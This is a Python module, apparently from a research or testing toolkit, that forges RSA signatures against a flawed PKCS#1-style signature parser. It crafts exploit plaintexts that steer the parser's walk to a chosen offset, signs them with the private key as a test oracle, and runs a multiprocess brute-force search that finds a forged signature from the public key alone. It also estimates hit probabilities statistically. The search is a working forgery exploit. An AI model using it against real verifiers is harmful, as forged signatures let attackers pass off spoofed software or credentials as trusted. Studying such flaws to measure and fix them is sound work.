"""Exploit-signature production and hit-rate estimation.

Three routes to a signature whose decoded plaintext steers the flawed
walk to a chosen landing offset:

* `craft_exploit_plaintext` builds the plaintext directly (no key),
* `forge_with_private_key` signs a crafted plaintext with d (the test
  oracle; one attempt by construction),
* `brute_force_search` finds one with only the public key, walking the
  multiplicative chain y <- y*k mod n where k = r^e mod n.  After z
  steps y equals (r^z)^e mod n, so a hit at step z is signed by r^z
  without ever computing a root.  Each step also tests n - y, because
  with odd e the signature of n - y is simply n - r^z; that negation
  check costs a subtraction instead of a multiplication and nearly
  doubles throughput.  At large moduli, with libcrypto loaded, the chain
  steps on OpenSSL bignums by one Montgomery product and converts only
  candidates, the values whose top byte or whose negation's top byte is
  zero, back to `int`; otherwise it steps in CPython (`modmath._chain`
  chooses).  Both steps give the same values, so the attempt sequence
  and the hits do not depend on which one ran.

`estimate_hit_probability` measures the probability that a uniformly
random block satisfies a classification predicate, and
`exact_hit_probability` (from `sigparser`, re-exported here) gives the
same probability in closed form.  The search tests values uniform
modulo n rather than uniform bytes; `exact_search_probability` gives
its per-attempt hit probability.
"""

from __future__ import annotations

import contextlib
import json
import multiprocessing
import signal
import threading
import time
from dataclasses import asdict, dataclass, replace
from pathlib import Path
from typing import Callable, Optional, TextIO

import numpy as np

from . import modmath
from .modmath import (
    RsaKeyPair, block_length_of, from_fixed_bytes, mod_exp, raw_sign, raw_verify, to_fixed_bytes,
)
from .prng import ByteStream, derive_seed
from .sigparser import FLAWED_BLOCK_TYPES, ParserConfig, exact_hit_probability, make_classifier

__all__ = [
    "MAX_WORKERS",
    "ForgeResult",
    "HitProbability",
    "SearchWorkerError",
    "craft_exploit_plaintext",
    "forge_with_private_key",
    "brute_force_search",
    "estimate_hit_probability",
    "exact_hit_probability",
    "exact_search_probability",
    "draw_root",
    "write_forge_result",
]

# Canonical inner-skip length: with the terminator 33 bytes short of the
# landing offset, the walk reads headers at t+1..t+4 and skips 26 content
# bytes, the same tail shape as the published exploit block.
_PREFERRED_INNER_LEN = 0x1A

_ESTIMATE_DRAW_BYTES = 1 << 20  # random bytes per estimator draw

# The estimator's prefix filter: which second flag bytes the flawed walk accepts.
_FLAG_TYPE_OK = np.isin(np.arange(256), FLAWED_BLOCK_TYPES)

_TICK_MASK = 0x3FF  # a chain calls its tick every 1024 steps

_STOP_GRACE_S = 1.0  # time a worker gets to see the stop flag before it is terminated

MAX_WORKERS = 64  # a search starts one process per worker; a typo must not fork thousands


@dataclass(frozen=True)
class ForgeResult:
    signature: int
    plaintext: bytes
    landing_offset: int
    attempts: int
    negated: bool = False
    root: Optional[int] = None
    iterations: int = 0

    @property
    def block_length(self) -> int:
        return len(self.plaintext)

    def signature_bytes(self) -> bytes:
        return to_fixed_bytes(self.signature, self.block_length)

    def to_json_dict(self, seed: bytes) -> dict:
        return {
            "signature": self.signature_bytes().hex(),
            "landing_offset": self.landing_offset,
            "attempts": self.attempts,
            "iterations": self.iterations,
            "seed": seed.hex(),
        }


def craft_exploit_plaintext(
    block_length: int, landing_offset: int, filler_seed: bytes | str
) -> bytes:
    """Deterministic plaintext whose walk lands exactly at `landing_offset`.

    Layout: 00 02, nonzero filler, terminator at t, headers, and a
    steering length byte L with t + 7 + L = landing_offset.  All bytes
    the walk never evaluates are filler from `filler_seed`.
    """
    if block_length < 8:
        raise ValueError("block_length must be at least 8 bytes")
    if not block_length <= landing_offset <= block_length + 127:
        raise ValueError(
            "landing offset must lie in the reachable window "
            f"[{block_length}, {block_length + 127}]"
        )
    t_low = max(2, landing_offset - 7 - 0xFF)
    t_high = min(block_length - 5, landing_offset - 7)
    if t_low > t_high:
        raise ValueError(
            f"no terminator position reaches offset {landing_offset:#x} "
            f"in a {block_length:#x}-byte block"
        )
    t = landing_offset - 7 - _PREFERRED_INNER_LEN
    t = min(max(t, t_low), t_high)
    inner_len = landing_offset - 7 - t

    stream = ByteStream(filler_seed)
    block = bytearray(stream.take_nonzero(block_length))
    block[0] = 0x00
    block[1] = 0x02
    block[t] = 0x00
    block[t + 1] = 0x30
    block[t + 3] = 0x30
    block[t + 4] = inner_len
    return bytes(block)


def forge_with_private_key(
    key: RsaKeyPair, landing_offset: int, seed: bytes | str
) -> ForgeResult:
    """Sign a crafted plaintext with d: one attempt, as a 00-led block is below n."""
    plaintext = craft_exploit_plaintext(key.block_length, landing_offset, seed)
    return ForgeResult(
        signature=raw_sign(from_fixed_bytes(plaintext), key),
        plaintext=plaintext,
        landing_offset=landing_offset,
        attempts=1,
    )


def draw_root(seed: bytes | str, worker_index: int, n: int) -> int:
    """The search root a given worker derives from the run seed."""
    stream = ByteStream(derive_seed(seed, "search-worker", worker_index))
    return 2 + stream.int_below(n - 3)


def _progress_reporter(out: Optional[TextIO]) -> Callable[[int], bool]:
    """The search's one progress reporter: a tick that never stops a chain
    and prints `attempts=N rate=R elapsed=S` to `out` at most once a second."""
    started = last = time.perf_counter()

    def report(attempts: int) -> bool:
        nonlocal last
        now = time.perf_counter()
        if out is not None and now - last >= 1.0:
            elapsed = now - started
            print(f"attempts={attempts} rate={attempts / elapsed:.0f} elapsed={elapsed:.1f}",
                  file=out, flush=True)
            last = now
        return False

    return report


def _classify_pair(classify, y: int, n: int, top: int, block_length: int):
    """The first of y and n - y that classifies, as (value, landing, negated), or None."""
    for value, negated in ((y, False), (n - y, True)):
        if value < top:
            landing = classify(to_fixed_bytes(value, block_length))
            if landing is not None:
                return value, landing, negated
    return None


def _run_chain(
    n: int,
    e: int,
    block_length: int,
    config: ParserConfig,
    worker_seed: bytes | str,
    worker_index: int,
    budget: int,
    tick: Callable[[int], bool],
) -> Optional[ForgeResult]:
    """One multiplicative chain; returns a confirmed hit or None.

    Each step tests two values, so after z steps the chain has made
    2 * z attempts.  `tick(2 * z)` is called every 1024 steps and once
    more when the chain ends (a hit, a spent budget or a stop); a true
    return stops the chain.
    """
    classify = make_classifier(config)
    r = draw_root(worker_seed, worker_index, n)
    k = mod_exp(r, e, n)
    # A value can only classify if its top byte is zero: y < top, or
    # n - y < top.
    top_bits = 8 * block_length - 8
    top = 1 << top_bits
    # The last step starts while 2 * (z - 1) < budget, so an odd budget
    # ends one attempt past it.
    steps = (budget + 1) // 2

    z = 0
    hit = None
    with contextlib.closing(modmath._chain(k, n, top_bits, steps, _TICK_MASK)) as chain:
        for z, y in chain:
            if y is None:
                if tick(2 * z):
                    break
            elif hit := _classify_pair(classify, y, n, top, block_length):
                break
        else:
            z = steps
    tick(2 * z)
    if hit is None:
        return None

    value, landing, negated = hit
    signature = pow(r, z, n)
    if negated:
        signature = (n - signature) % n
    # Every hit is confirmed by one full verify before release.
    if raw_verify(signature, (n, e)) != value:
        raise RuntimeError("search hit failed verification; chain defect")
    return ForgeResult(
        signature=signature,
        plaintext=to_fixed_bytes(value, block_length),
        landing_offset=landing,
        attempts=2 * z,
        negated=negated,
        root=r,
        iterations=z,
    )


class SearchWorkerError(RuntimeError):
    """A search worker died without a result: killed by a signal, or exited nonzero."""

    def __init__(self, worker: int, exitcode: int):
        how = f"was killed by signal {-exitcode}" if exitcode < 0 else f"exited with code {exitcode}"
        super().__init__(f"search worker {worker} {how}")
        self.worker = worker
        self.exitcode = exitcode


class _Terminated(BaseException):
    """A SIGTERM to the parent of a running multi-worker search."""


def _raise_terminated(signum, frame):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)  # one is enough: let the cleanup finish
    raise _Terminated


@contextlib.contextmanager
def _sigterm_raises():
    """While the block runs, a SIGTERM raises into it, so that its `finally`
    clauses stop the workers; the process then ends by SIGTERM, as it would
    have.  Only on the main thread, the one that may set a handler, and only
    while SIGTERM has its default action: a caller's handler, or an ignored
    SIGTERM, stays in charge.  The default action is restored afterwards."""
    if (
        threading.current_thread() is not threading.main_thread()
        or signal.getsignal(signal.SIGTERM) is not signal.SIG_DFL
    ):
        yield
        return
    signal.signal(signal.SIGTERM, _raise_terminated)
    try:
        yield
    except _Terminated:
        signal.signal(signal.SIGTERM, signal.SIG_DFL)
        signal.raise_signal(signal.SIGTERM)
        raise
    finally:
        signal.signal(signal.SIGTERM, signal.SIG_DFL)


def _worker_main(n, e, block_length, config, seed, index, budget, stop, results, counter):
    # A forked worker inherits the parent's search handler; it ends by
    # SIGTERM's default action instead.
    signal.signal(signal.SIGTERM, signal.SIG_DFL)

    def tick(attempts: int) -> bool:
        counter.value = attempts
        return stop.is_set()

    try:
        found = _run_chain(n, e, block_length, config, seed, index, budget, tick)
        if found is not None:
            results.put(found)
            stop.set()
    except Exception as exc:  # surfaced by the parent as a failed search
        results.put(exc)
        stop.set()


def brute_force_search(
    pub: tuple[int, int],
    config: ParserConfig,
    worker_count: int,
    seed: bytes | str,
    max_attempts: int,
    progress: Optional[TextIO] = None,
) -> Optional[ForgeResult]:
    """Search for an exploit signature using only the public key.

    Workers run independent chains from seed-derived roots and share
    only a stop flag, the result slot and an attempt counter each; every
    1024 chain steps a worker publishes its count and polls the flag.
    The first confirmed hit wins, with the workers' final counts summed
    as its attempts.  A chain makes two attempts a step and starts its
    last step while 2 * (z - 1) < its budget, so an odd budget ends one
    attempt past it: `max_attempts=1` makes 2.  With worker_count == 1
    the search runs inline and the attempt sequence is a pure function of
    the seed.  Either way `progress` gets at most one line a second.  A
    config that cannot hit, or an even modulus, is a ValueError before any
    chain runs.  Returns None when every worker spent its budget; raises
    SearchWorkerError when a worker died without a result and none found
    a hit.  A worker's death stops its peers at once, and so does a
    SIGTERM to the parent (see `_sigterm_raises`) before the parent ends
    by it.
    """
    n, e = pub
    if not 1 <= worker_count <= MAX_WORKERS:
        raise ValueError(f"worker_count must be 1 to {MAX_WORKERS}, not {worker_count}")
    if n.bit_length() < 16:
        raise ValueError("modulus too small to search against")
    if not n & 1:
        raise ValueError("modulus must be odd, as every RSA modulus is")
    block_length = block_length_of(n)
    if exact_hit_probability(block_length, config) == 0:
        raise ValueError(f"the parser config cannot hit a {block_length}-byte block")

    if worker_count == 1:
        return _run_chain(
            n, e, block_length, config, seed, 0, max_attempts, _progress_reporter(progress)
        )

    stop = multiprocessing.Event()
    results: multiprocessing.SimpleQueue = multiprocessing.SimpleQueue()
    counters = [multiprocessing.Value("q", 0, lock=False) for _ in range(worker_count)]
    share, extra = divmod(max_attempts, worker_count)
    workers = []
    with _sigterm_raises():
        try:
            for idx in range(worker_count):
                budget = share + (1 if idx < extra else 0)
                proc = multiprocessing.Process(
                    target=_worker_main,
                    args=(n, e, block_length, config, seed, idx, budget, stop, results,
                          counters[idx]),
                )
                proc.start()
                workers.append(proc)

            report = _progress_reporter(progress)
            while any(p.is_alive() for p in workers) and not any(p.exitcode for p in workers):
                time.sleep(0.05)
                report(sum(c.value for c in counters))
            # A crashed worker stops the search at once; its peers get a grace
            # period to notice the flag, so a hit already in flight still wins.
            stop.set()
            deadline = time.monotonic() + _STOP_GRACE_S
            for proc in workers:
                proc.join(max(0.0, deadline - time.monotonic()))
            winner: Optional[ForgeResult] = None
            while not results.empty():
                item = results.get()
                if isinstance(item, Exception):
                    raise item
                if winner is None:
                    winner = item
        finally:
            stop.set()
            for proc in workers:
                if proc.is_alive():
                    proc.terminate()
                proc.join()
    if winner is None:
        for idx, proc in enumerate(workers):
            if proc.exitcode != 0:
                raise SearchWorkerError(idx, proc.exitcode)
        return None
    return replace(winner, attempts=sum(c.value for c in counters))


def exact_search_probability(n: int, config: ParserConfig) -> float:
    """Exact per-attempt hit probability of `brute_force_search` against
    modulus n.

    The chain tests values uniform modulo n rather than uniform bytes.
    Such a value has a zero top byte with probability 2^(8(bl-1)) / n,
    and given that, its low bl-1 bytes are exactly uniform.  Its hit
    probability is therefore exactly

        p_search = p_bytes * 256 * 2^(8(bl-1)) / n

    where p_bytes is `exact_hit_probability`, the uniform-bytes
    probability (which carries the 1/256 for the zero top byte).  For a
    modulus of exactly 8*bl bits the factor 256 * 2^(8(bl-1)) / n lies
    in (1, 2].
    """
    block_length = block_length_of(n)
    return exact_hit_probability(block_length, config) * ((1 << 8 * block_length) / n)


@dataclass(frozen=True)
class HitProbability:
    hits: int
    samples: int
    p_hat: float
    ci_low: float
    ci_high: float

    def to_json_dict(self) -> dict:
        return asdict(self)


def _wilson_interval(hits: int, samples: int) -> tuple[float, float]:
    p = hits / samples
    z = 1.959964  # two-sided 95%
    zz = z * z
    denom = 1.0 + zz / samples
    center = (p + zz / (2 * samples)) / denom
    half = z * ((p * (1 - p) / samples + zz / (4 * samples * samples)) ** 0.5) / denom
    return (max(0.0, center - half), min(1.0, center + half))


def estimate_hit_probability(
    block_length: int,
    config: ParserConfig,
    samples: int,
    seed: bytes | str,
) -> HitProbability:
    """Monte-Carlo estimate of Pr[predicate] over uniform random blocks.

    Blocks are cut from the raw 64-bit output of a seeded PCG64
    generator, read as little-endian bytes, about 1 MiB per draw; these
    are exactly the bytes `rng.integers(0, 256, dtype=np.uint8)` would
    give, so a seed's hit count does not depend on the draw size.
    Candidates surviving the two-byte prefix filter are run through the
    full classifier.  With `require_walk` false in the config, only the
    prefix check counts (useful for calibrating the estimator against
    analytically known probabilities).
    """
    if samples < 10**5:
        raise ValueError("need at least 1e5 samples for a meaningful estimate")
    rng = np.random.default_rng(int.from_bytes(derive_seed(seed, "estimate"), "big"))
    classify = make_classifier(config) if config.require_walk else None
    # A whole number of 64-bit words per draw keeps the byte stream unbroken.
    rows_per_draw = max(8, _ESTIMATE_DRAW_BYTES // block_length // 8 * 8)

    hits = 0
    remaining = samples
    while remaining > 0:
        count = min(rows_per_draw, remaining)
        remaining -= count
        words = rng.bit_generator.random_raw(-(-count * block_length // 8))
        flat = words.astype("<u8", copy=False).view(np.uint8)
        blocks = flat[: count * block_length].reshape(count, block_length)
        mask = (blocks[:, 0] == 0) & _FLAG_TYPE_OK[blocks[:, 1]]
        if classify is None:
            hits += int(np.count_nonzero(mask))
            continue
        for row in blocks[mask]:
            if classify(row.tobytes()) is not None:
                hits += 1
    p_hat = hits / samples
    low, high = _wilson_interval(hits, samples)
    return HitProbability(hits=hits, samples=samples, p_hat=p_hat, ci_low=low, ci_high=high)


def write_forge_result(result: ForgeResult, base_path: str | Path, seed: bytes) -> tuple[Path, Path]:
    """Persist a search result: `<base>.sig` hex signature, `<base>.json` record."""
    base = Path(base_path)
    sig_path = base.with_suffix(".sig")
    json_path = base.with_suffix(".json")
    sig_path.write_text(result.signature_bytes().hex() + "\n")
    json_path.write_text(json.dumps(result.to_json_dict(seed), indent=2) + "\n")
    return sig_path, json_path
